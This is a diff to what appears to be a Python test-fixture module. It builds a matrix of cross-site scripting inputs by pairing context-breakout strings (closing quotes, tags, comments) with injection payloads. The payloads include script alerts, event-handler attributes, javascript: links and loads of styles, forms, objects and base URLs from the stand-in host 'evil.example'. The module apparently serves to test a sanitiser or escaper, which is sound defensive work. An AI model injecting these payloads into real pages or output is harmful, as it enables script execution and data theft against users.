@@ -81,6 +81,45 @@ MARKDOWN = (
 
 ALL = (*HTML, *DISPLAY, *MARKDOWN)
 
+_LEAVES = (
+    '"',
+    "'",
+    ">",
+    '">',
+    "'>",
+    "</p>",
+    "</code>",
+    "</title>",
+    "</style>",
+    "</svg>",
+    "</details>",
+    "</table>",
+    "-->",
+    "]]>",
+)
+_ENTERS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<input autofocus onfocus=alert(1)>",
+    "<style>@import'//evil.example'</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<form action=//evil.example><button>x",
+    "<object data=//evil.example></object>",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    " onmouseover=alert(1) x=",
+    " style=position:fixed;inset:0 x=",
+    "<base href=//evil.example/>",
+    "<details open ontoggle=alert(1)>",
+    "<template><slot onslotchange=alert(1)>",
+)
+#: Every way out of a place with every way into another.
+CROSSED = tuple(f"{leaves}{enters}" for leaves in _LEAVES for enters in _ENTERS)
+
 
 def everywhere(value: T, text: str) -> T:
     """Return ``value`` with ``text`` in the place of each string in it."""
